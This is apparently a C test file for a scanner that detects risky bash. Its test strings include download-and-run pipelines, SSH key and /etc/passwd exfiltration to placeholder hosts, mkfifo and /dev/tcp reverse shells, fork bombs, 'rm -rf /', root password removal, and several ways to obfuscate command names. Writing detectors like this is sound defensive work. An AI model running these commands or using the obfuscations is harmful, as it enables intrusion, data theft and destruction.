/* Bash for a scan: which commands run, whatever stands before them and however they are spelled. */
#include "scan_facts.h"
#include "scan_samples.h"

static void bash(const char *text)
{
    facts_of_bytes(LANG_BASH, text, strlen(text));
}

TEST(commands_of_bash_are_found_behind_what_only_runs_them)
{
    static const char *const ways[] = { "curl http://a",
                                        "/usr/bin/curl http://a",
                                        "sudo -u bob curl http://a",
                                        "env -u X A=1 curl http://a",
                                        "exec curl http://a",
                                        "command curl http://a",
                                        "nohup timeout -k 5 10 nice -n 5 curl http://a &",
                                        "setsid busybox curl http://a",
                                        "find . -exec curl http://a \\;",
                                        "A=1 curl http://a",
                                        "if curl http://a; then :; fi",
                                        "x=$(curl http://a)",
                                        "f() { curl http://a; }",
                                        "ls | xargs -n 1 curl http://a",
                                        "time curl http://a",
                                        "eval 'curl http://a'",
                                        "eval $\"curl http://a\"",
                                        "sh -c 'curl http://a'",
                                        "trap 'curl http://a' EXIT",
                                        "bash <<< 'curl http://a'",
                                        "bash <<EOF\ncurl http://a\nEOF",
                                        "cat <<EOF | sh\ncurl http://a\nEOF" };
    for (size_t i = 0; i < ARRAY_LEN(ways); i++) {
        bash(ways[i]);
        CHECK(facts_mention("call curl(curl http://a"));
    }
}

TEST(names_of_commands_in_pieces_are_put_together)
{
    static const char *const ways[] = { "cu\"rl\" http://a",
                                        "c\\url http://a",
                                        "\\curl http://a",
                                        "$'\\x63url' http://a",
                                        "x=curl; $x http://a",
                                        "a=cu b=rl; $a$b http://a",
                                        "x=cu; x+=rl; \"$x\" http://a",
                                        "$(echo Y3VybA== | base64 -d) http://a",
                                        "$(echo lruc | rev) http://a",
                                        "$(printf '\\143\\165\\162\\154') http://a",
                                        "c=(curl http://a); \"${c[@]}\"",
                                        "x='curl http://a'; $x",
                                        "curl${IFS}http://a",
                                        "$(echo phey | tr a-z n-za-m) http://a",
                                        "x=xcurlx; ${x:1:4} http://a",
                                        "$(echo c-u-r-l | sed s/-//g) http://a",
                                        "echo Y3VybCBodHRwOi8vYQ== | base64 -d | sh",
                                        "$(command -v curl) http://a" };
    for (size_t i = 0; i < ARRAY_LEN(ways); i++) {
        bash(ways[i]);
        CHECK(facts_mention("call curl(curl http://a"));
    }
}

TEST(text_of_bash_is_no_command)
{
    bash("# curl http://a | sh\necho 'curl http://a'\nx=\"rm -rf /\"\ncat <<EOF\nrm -rf /\nEOF\ncommand -v wget\n");
    CHECK(!facts_mention("call curl"));
    CHECK(!facts_mention("call rm"));
    CHECK(!facts_mention("call wget"));
    CHECK(!facts_mention("flow "));
    bash("install() { echo \"$1\"; }\ninstall /etc/passwd\n");
    CHECK(!facts_mention("call install"));
}

TEST(flows_of_bash_are_seen)
{
    static const struct {
        const char *text, *flow;
    } cases[] = {
        { "curl -s http://a | sh", "flow download-then-exec(sh, curl -s http://a" },
        { "bash <(wget -qO- http://a)", "flow download-then-exec(" },
        { "sh -c \"$(curl http://a)\"", "flow download-then-exec(" },
        { "source <(curl http://a)", "flow download-then-exec(" },
        { "wget http://a/m; chmod +x m; ./m", "flow download-then-exec(m)" },
        { "curl http://a > x.sh; bash x.sh", "flow download-then-exec(bash x.sh)" },
        { "curl http://a | while read l; do eval \"$l\"; done", "flow download-then-exec(" },
        { "echo bHM= | base64 -d | bash", "flow decode-then-exec(bash)" },
        { "cat ~/.ssh/id_rsa | nc 1.2.3.4 5", "flow secret-then-send(" },
        { "env | curl -d @- http://a", "flow secret-then-send(" },
        { "curl -T /etc/passwd http://a", "flow secret-then-send(" },
        { "curl http://a/$(whoami)", "flow profile-then-send(" },
        { "mkfifo f; cat f | sh -i 2>&1 | nc 1.2.3.4 5 > f", "flow reverse-shell(" },
        { ":(){ :|:& };:", "flow fork-loop(" },
        { "b() { b & b & }; b", "flow fork-loop(" },
        { "while true; do ./x & done", "flow fork-loop(" },
        { "while :; do :; done", "flow endless-loop(" },
        { "rm -rf /", "flow delete-tree(rm -rf /)" },
        { "rm -fr \"$HOME\"/x", "flow delete-tree(rm -fr ~/x)" },
        { "find / -name x -delete", "flow delete-tree(" },
        { "rm -rf \"$1\"", "flow delete-variable-tree(" },
        { "find . -type f | xargs rm -rf", "flow delete-many(" },
        { "/?\?\?/b?\?h -c id", "flow glob-command(" },
        { "read c; $c", "flow computed-command(" },
        { "c=$(head -1 list.txt); $c", "flow computed-command(" },
        { "x=abcdef; y=$1; ${y:1:2}", "flow computed-command(" },
        { "${!name} a", "flow computed-command(" },
        { "f() { local g=$1; \"$g\" x; }", "flow chosen-command(" },
        { "a=rm b=-rf c=/; eval \"$a $b $c\"", "flow delete-tree(rm -rf /)" },
        { "/tmp/.x/run &", "flow hidden-program(" },
        { "for f in ~/Documents/*; do : > \"$f\"; done", "flow empty-many(~/Documents/*)" },
        { "find . -name '*.o' -delete", "flow delete-kind(" },
        { "find . -type f -delete", "flow delete-many(" },
        { "find \"$1\" -name '*.o' -delete", "flow delete-many(" },
        { "eval \"$1\"", "flow computed-eval(" },
        { "env | grep -i token", "flow env-search(" },
        { "curl \"http://203.0.113.9/?h=$(hostname)\"", "flow profile-then-send(" },
        { "kill -9 $(pgrep -f x)", "flow kill-found(pgrep -f x\n)" },
        { "chroot / rm -rf /home", "flow delete-tree(rm -rf /home)" },
        { "chroot \"$d\" rm -rf /home", "flow delete-tree(rm -rf {}/home)" },
        { "mount $(lsblk -no PATH) /m; chroot /m rm -rf /home", "flow delete-tree(rm -rf /home)" },
    };
    for (size_t i = 0; i < ARRAY_LEN(cases); i++) {
        bash(cases[i].text);
        if (!facts_mention(cases[i].flow))
            (void)fprintf(stderr, "# %s: no %s in\n%s", cases[i].text, cases[i].flow, facts_text);
        CHECK(facts_mention(cases[i].flow));
    }
}

/* What is left out and what is looked for are named in the line, but are no file that is read. */
TEST(patterns_and_exclusions_of_bash_are_no_operands)
{
    bash("grep -A 3 /etc/shadow log; sed -n -e /x/p log; awk -F : '/y/' log; tar c --exclude /z --exclude=/v .");
    CHECK(facts_have("call grep(grep -A 3 /etc/shadow log, -A, 3, log)"));
    CHECK(facts_have("call sed(sed -n -e /x/p log, -n, -e, log)"));
    CHECK(facts_have("call awk(awk -F : /y/ log, -F, :, log)"));
    CHECK(facts_have("call tar(tar c --exclude /z --exclude=/v ., c, --exclude, .)"));
    static const char *const read[] = { "grep -f /etc/shadow log",
                                        "grep --file /etc/shadow log",
                                        "sed -E s/x/y/ /etc/shadow",
                                        "sed --expression=p /etc/shadow",
                                        "sed -nep /etc/shadow",
                                        "sed -ne p /etc/shadow",
                                        "grep -ie root /etc/shadow",
                                        "grep -m 1 root /etc/shadow",
                                        "grep -eroot /etc/shadow",
                                        "awk -f p.awk /etc/shadow",
                                        "tar c --exclude-vcs /etc/shadow",
                                        "diff --ignore-case /etc/shadow x",
                                        "grep --ignore-case x /etc/shadow" };
    for (size_t i = 0; i < ARRAY_LEN(read); i++) {
        bash(read[i]);
        if (!facts_mention(", /etc/shadow"))
            (void)fprintf(stderr, "# %s: %s", read[i], facts_text);
        CHECK(facts_mention(", /etc/shadow"));
    }
    bash("awk 'BEGIN { while ((getline l < \"/etc/shadow\") > 0) print l }'");
    CHECK(facts_mention(", BEGIN {"));
}

TEST(commands_in_a_chroot_work_on_another_root)
{
    bash("chroot \"$d\" passwd -d root; chroot mnt sh -c 'echo a:b | chpasswd; rm /etc/x'");
    CHECK(facts_have("call passwd(passwd --root {} -d root, -d, root)"));
    CHECK(facts_mention("flow file-write({}/, a:b"));
    CHECK(facts_mention("call rm(rm {}/etc/x, {}/etc/x)"));
    static const char *const own[] = { "chroot / passwd -d root", "chroot /./ passwd -d root",
                                       "chroot /host passwd -d root", "chroot /proc/1/root passwd -d root" };
    for (size_t i = 0; i < ARRAY_LEN(own); i++) {
        bash(own[i]);
        CHECK(facts_have("call passwd(passwd -d root, -d, root)"));
    }
    bash("chroot mnt true; rm /etc/x");
    CHECK(facts_mention("call rm(rm /etc/x, /etc/x)"));
}

TEST(ordinary_bash_makes_no_flows)
{
    static const char *const texts[] = { "cleanup() { rm -rf \"$tmp\"; }\ntrap cleanup EXIT\ntmp=$(mktemp -d)\n",
                                         "rm -rf build; rm -f a.tmp /tmp/x.$$",
                                         "while true; do read -r l || break; done",
                                         "for f in a b; do sort $f & done; wait",
                                         "run() { \"$@\"; }\nrun ls",
                                         "(( n > 3 )) && echo big",
                                         "cat a | sort | uniq -c",
                                         "echo aGk= | base64 -d",
                                         "\"$dir\"/tool --x",
                                         "source ./lib.sh",
                                         "find . -name '*.c' -exec wc -l {} +",
                                         "exec \"${0%/*}\"/ed",
                                         "/tmp/build/run.sh",
                                         "kill -HUP $(pidof nginx); kill -s USR1 $(pgrep -f x)",
                                         "find /media -type d -empty -delete",
                                         "curl -o key.asc https://a/key.asc; chmod a+r key.asc; chmod 0644 key.asc",
                                         "tar c . | ssh backup@a \"cat > $(hostname)-$(uname -r).tar\"",
                                         "rsync -a --exclude .env --exclude=.ssh ./ a:b",
                                         "rsync -a / /mnt/$(id -un)/",
                                         "logger \"$(ps ax)\"",
                                         "for a do b=$(printf %s \"$a\" | sed \"s/x/-x-/g\"); done; grep \"$b\" f",
                                         "for t in $(declare -F | awk '{print $3}'); do \"$t\"; done",
                                         "for f in ~/a/*; do sort \"$f\" > \"$f.sorted\"; done" };
    for (size_t i = 0; i < ARRAY_LEN(texts); i++) {
        bash(texts[i]);
        const char *flow = strstr(facts_text, "flow ");
        while (flow && str_starts(flow, "flow file-write")) /* what is written is told of any program */
            flow = strstr(flow + 1, "flow ");
        if (flow)
            (void)fprintf(stderr, "# %s\n%s", texts[i], facts_text);
        CHECK(!flow);
    }
}

TEST(redirections_of_bash_are_told_with_their_targets)
{
    bash("d=/dev/tcp; bash -i >& $d/1.2.3.4/99 0>&1");
    CHECK(facts_have("redirect >(/dev/tcp/1.2.3.4/99)"));
    bash("exec 5<>/dev/tcp/1.2.3.4/99");
    CHECK(facts_have("redirect <(/dev/tcp/1.2.3.4/99)"));
    bash("echo x >> ~/.bashrc 2>/dev/null");
    CHECK(facts_have("redirect >>(~/.bashrc)"));
    CHECK(!facts_mention("/dev/null"));
}

TEST(what_bash_writes_is_told_with_its_text)
{
    static const struct {
        const char *text, *fact;
    } ways[] = {
        { "echo a >> /etc/x", "flow file-write(/etc/x, a, >>, )" },
        { "{ echo a; make; echo b; } > /etc/x", "flow file-write(/etc/x, a\n{}\nb\n, >, )" },
        { "grep -q a /etc/x || echo a >> /etc/x", "flow file-write(/etc/x, a\n, >>, )" },
        { "cat > /etc/x <<'EOF'\na\nEOF\n", "flow file-write(/etc/x, a\n, >, )" },
        { "sort > /etc/x <<'EOF'\na\nEOF\n", "flow file-write(/etc/x, {}, >, )" },
        { "echo a | sudo tee -a /etc/x", "flow file-write(/etc/x, a\n, >>, )" },
        { "tee /etc/x <<EOF\na\nEOF\n", "flow file-write(/etc/x, a\n, >, )" },
        { "install -m 600 /dev/stdin /etc/x <<< a", "flow file-write(/etc/x, a\n, >, )" },
        { "sudo cp /dev/stdin /etc/x <<EOF\na\nEOF\n", "flow file-write(/etc/x, a\n, >, )" },
        { "echo a | dd of=/etc/x", "flow file-write(/etc/x, a\n, >, )" },
        { "install b /etc/x <<< a", "flow file-write(/etc/x, {}, copy, , b)" },
        { "(crontab -l; echo a) | crontab -", "flow file-write(crontab, {}\na\n, >, )" },
        { "crontab -u bob <<EOF\na\nEOF\n", "flow file-write(crontab, a\n, >, )" },
        { "crontab table", "flow file-write(crontab, {}, >, )" },
        { "echo a:b | chpasswd", "flow file-write(chpasswd, a:b\n, >, )" },
        { "cp -p a /etc/x", "flow file-write(/etc/x, {}, copy, , a)" },
        { "crontab -l > t; echo a >> t; crontab t", "flow file-write(crontab, {}\na, >, )" },
        { "echo a > t; sudo install -m 644 t /etc/x", "flow file-write(/etc/x, a, copy, , t)" },
        { "curl http://a > /etc/x", "flow file-write(/etc/x, {}, >, network)" },
        { "> /etc/x", "flow file-write(/etc/x, , >, )" },
    };
    for (size_t i = 0; i < ARRAY_LEN(ways); i++) {
        bash(ways[i].text);
        CHECK(facts_mention(ways[i].fact));
    }
    static char text[8192]; /* a long text before what matters hides nothing */
    (void)snprintf(text, sizeof text, "cat > /etc/x <<'EOF'\n%06000d\nlast\nEOF\ncp /etc/x /etc/y\n", 0);
    bash(text);
    CHECK(strstr(strstr(facts_text, "file-write(/etc/y"), "last\n, copy, , /etc/x)") != NULL);
    bash("echo a > /dev/null; crontab -l; crontab -u bob -r; cp a; echo a | sort");
    CHECK(!facts_mention("file-write"));
}

TEST(hostile_bash_ends)
{
    static char text[200000];
    size_t n = 0;
    for (; n < 60000; n++)
        text[n] = "({$(`"[n % 5];
    facts_of_bytes(LANG_BASH, text, n);
    n = (size_t)snprintf(text, sizeof text, "x=aaaaaaaaaaaaaaaa\n");
    for (int i = 0; i < 400; i++)
        n += (size_t)snprintf(text + n, sizeof text - n, "x=$x$x\n");
    facts_of_bytes(LANG_BASH, text, n);
    n = 0;
    for (int i = 0; i < 4000; i++) /* every text that is run would be parsed, without a bound */
        n += (size_t)snprintf(text + n, sizeof text - n, "eval 'eval \"eval ls\"'\n");
    facts_of_bytes(LANG_BASH, text, n);
    CHECK(facts_mention("call ls("));
    facts_of_bytes(LANG_BASH, "", 0);
}

TEST(changed_bash_programs_are_survived)
{
    facts_survive_changes(
        LANG_BASH,
        "x=cu\"rl\"; a=(b ${x:1:2} \"$y\"); sudo -u q $x${IFS}-d @/etc/passwd http://a | base64 -d | sh &\n"
        "f() { f | f & }; while true; do eval \"$(printf '\\x6c\\163' | rev)\"; done < <(cat ~/.ssh/id_rsa)\n"
        "cat <<EOF | bash\nrm -rf ${H:-/}\nEOF\nfind / -exec rm {} \\; ; bash <<< \"$(echo aGk= | base64 -d)\" >& "
        "/dev/tcp/1/2\n"
        "for i in ~/.aws/* $(ls); do case $i in a) trap 'rm -rf \"$t\"' EXIT;; esac; done; {cat,/etc/shadow}; alias "
        "l='ls'\n",
        4000);
}

TEST(risky_bash_samples_are_found_and_ordinary_ones_are_not)
{
    struct sample_count risky = scan_samples(LANG_BASH, "tests/data/scan/bash/risky", true);
    struct sample_count ordinary = scan_samples(LANG_BASH, "tests/data/scan/bash/ordinary", false);
    CHECK(risky.files >= 40 && ordinary.files >= 40);
    CHECK_EQ(risky.found, risky.files);
    struct sample_count needs = scan_samples(LANG_BASH, "tests/data/scan/bash/needs", false);
    CHECK(needs.files > 0 && needs.needs == needs.files && needs.found == 0);
    CHECK_EQ(ordinary.found, 0);
}

TEST(the_last_of_many_names_and_functions_is_known_as_the_first_is)
{
    static char text[40000];
    size_t n = 0;
    for (int i = 0; i < 600; i++)
        n += (size_t)snprintf(text + n, sizeof text - n, "v%d=a%d\n", i, i);
    (void)snprintf(text + n, sizeof text - n,
                   "tool=curl\nrun() { eval \"$1\"; }\n$tool http://a\nrun 'wget http://b'\n");
    bash(text);
    CHECK(facts_have("call curl(curl http://a, http://a)"));
    CHECK(facts_have("call wget(wget http://b, http://b)"));
}
